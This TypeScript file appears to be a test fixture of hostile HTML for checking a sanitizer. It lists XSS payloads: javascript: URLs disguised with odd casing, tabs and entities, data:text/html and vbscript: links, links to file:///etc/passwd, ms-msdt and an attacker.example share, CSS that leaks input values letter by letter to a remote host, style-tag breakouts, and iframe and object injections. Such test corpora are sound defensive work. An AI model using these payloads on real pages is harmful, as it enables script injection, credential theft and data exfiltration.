import type { Charge, Danger } from './hostileFile';
import type { MarkupAttack } from './markupAttacks';

type Row = readonly [name: string, danger: Danger, markup: (charge: Charge) => string];

const addresses: readonly Row[] = [
  ['link to a script', 'when touched', ({ script }) => `<a href="javascript:${script}">press here</a>`],
  ['link in odd case', 'when touched', ({ script }) => `<a href="JaVaScRiPt:${script}">press here</a>`],
  [
    'link broken by tabs and line ends',
    'when touched',
    ({ script }) => `<a href="jav&#9;asc&#10;ri\rpt:${script}">press here</a>`,
  ],
  [
    'link after control characters',
    'when touched',
    ({ script }) => `<a href="&#1; &#14; javascript:${script}">press here</a>`,
  ],
  [
    'link in entities without ends',
    'when touched',
    ({ script }) => `<a href="&#0000106&#0000097&#0000118&#0000097script&colon;${script}">press here</a>`,
  ],
  [
    'link to a script that looks like the web',
    'when touched',
    ({ script }) => `<a href="javascript://example.org/%0a${script}">press here</a>`,
  ],
  [
    'link to Visual Basic and to Mocha',
    'elsewhere',
    ({ script }) => `<a href="vbscript:${script}">press here</a> <a href="livescript:${script}">and here</a>`,
  ],
  [
    'link to a page in itself',
    'elsewhere',
    ({ script }) => `<a href="data:text/html,<script>${script}</script>">press here</a>`,
  ],
  [
    'link to a program or a share',
    'elsewhere',
    ({ far }) =>
      `<a href="file:///etc/passwd">press here</a> <a href="ms-msdt:/id ${far}">a</a> <a href="search-ms:query=${far}">b</a> <a href="\\\\attacker.example\\${far.length}">c</a>`,
  ],
  [
    'link into Assay itself',
    'elsewhere',
    ({ script }) =>
      `<a href="/api/settings.write">press here</a> <a href="app://assay/?token=${script}">a</a>`,
  ],
  [
    'link that opens a window and reports',
    'when touched',
    ({ far }) => `<a href="${far}/link" target="_blank" rel="opener" ping="${far}/ping">press here</a>`,
  ],
  [
    'map over a picture',
    'elsewhere',
    ({ script, far }) =>
      `<img usemap="#m" src="${far}/map.png" alt="press here"><map name="m"><area shape="default" href="javascript:${script}"></map>`,
  ],
  [
    'form and its button',
    'when touched',
    ({ script, far }) =>
      `<form action="${far}/form"><button formaction="javascript:${script}">press here</button><input type="image" src="${far}/i.png"></form>`,
  ],
  [
    'base of all addresses',
    'when touched',
    ({ far }) => `<base href="${far}/"><a href="next">press here</a>`,
  ],
  [
    'page that moves on',
    'at once',
    ({ far }) => `<meta http-equiv="refresh" content="0;url=${far}/refresh"><p>press here</p>`,
  ],
  [
    'page that moves on to a script',
    'elsewhere',
    ({ script }) => `<meta http-equiv="refresh" content="0;url=javascript:${script}"><p>press here</p>`,
  ],
  [
    'page that sets a cookie and a policy',
    'elsewhere',
    () =>
      `<meta http-equiv="Set-Cookie" content="a=1"><meta http-equiv="Content-Security-Policy" content="script-src 'none'"><p>press here</p>`,
  ],
  [
    'pictures from far',
    'at once',
    ({ far }) =>
      `<img src="${far}/a.png" srcset="${far}/b.png 2x"><picture><source srcset="${far}/c.png"><img src="${far}/d.png"></picture><table background="${far}/e.png"><tr><td background="${far}/f.png">press here</td></tr></table><video poster="${far}/g.png"></video>`,
  ],
  [
    'files fetched ahead',
    'at once',
    ({ far }) =>
      `<link rel="stylesheet" href="${far}/a.css"><link rel="preload" as="image" href="${far}/b.png"><link rel="prefetch" href="${far}/c"><link rel="dns-prefetch" href="//attacker.example"><link rel="preconnect" href="${far}"><link rel="modulepreload" href="${far}/d.js"><link rel="icon" href="${far}/e.ico"><p>press here</p>`,
  ],
];

const styles: readonly Row[] = [
  [
    'style that fetches',
    'at once',
    ({ far }) =>
      `<style>@import "${far}/a.css"; @font-face { font-family: f; src: url(${far}/f.woff) } p { background: url("${far}/b.png"); font-family: f }</style><p>press here</p>`,
  ],
  [
    'style of an element that fetches',
    'at once',
    ({ far }) =>
      `<p style="background: url(${far}/a.png); list-style: url('${far}/b.png'); content: image-set('${far}/c.png' 1x)">press here</p>`,
  ],
  [
    'style that spies letter by letter',
    'elsewhere',
    ({ far }) =>
      `<style>input[value^="a"] { background: url(${far}/a) } [aria-label] { background: url(${far}/label) }</style><p>press here</p>`,
  ],
  [
    'style that runs',
    'elsewhere',
    ({ script, far }) =>
      `<p style="width: expression(${script}); behavior: url(${far}/a.htc); -moz-binding: url(${far}/b.xml#c); background: url('javascript:${script}')">press here</p><style>@im\\port '${far}/c.css'; p { width: exp/**/ression(${script}) }</style>`,
  ],
  [
    'style that covers the window',
    'elsewhere',
    ({ far }) =>
      `<a href="${far}/cover" style="position: fixed; inset: 0; z-index: 2147483647; display: block">press here</a>`,
  ],
  [
    'style that ends early',
    'at once',
    ({ script }) =>
      `<style><!-- </style><img src=x: onerror=${script}> --></style><p title="</style><img src=x: onerror=${script}>">press here</p>`,
  ],
];

const embedded: readonly Row[] = [
  [
    'frame with a script for its address',
    'at once',
    ({ script }) => `<iframe src="javascript:parent.${script}"></iframe>`,
  ],
  [
    'frame with a page in it',
    'at once',
    ({ script }) => `<iframe srcdoc="&lt;script&gt;parent.${script}&lt;/script&gt;"></iframe>`,
  ],
  ['frame from far', 'at once', ({ far }) => `<iframe src="${far}/frame" allow="camera"></iframe>`],
  ['set of frames', 'elsewhere', ({ far }) => `<frameset><frame src="${far}/frame"></frameset>`],
  [
    'object and embed with a page in them',
    'at once',
    ({ script }) =>
      `<object data="data:text/html,<script>${script}</script>"></object><embed src="data:text/html,<script>${script}</script>">`,
  ],
  [
    'object and applet from far',
    'elsewhere',
    ({ far }) =>
      `<object data="${far}/a.swf"><param name="movie" value="${far}/b.swf"></object><applet code="${far}/c.class"></applet><embed src="${far}/d.swf">`,
  ],
];

/** Addresses, styles, and what is embedded. */
export const addressAttacks: readonly MarkupAttack[] = [...addresses, ...styles, ...embedded].map(
  ([name, danger, markup]) => ({ name, danger, markup }),
);
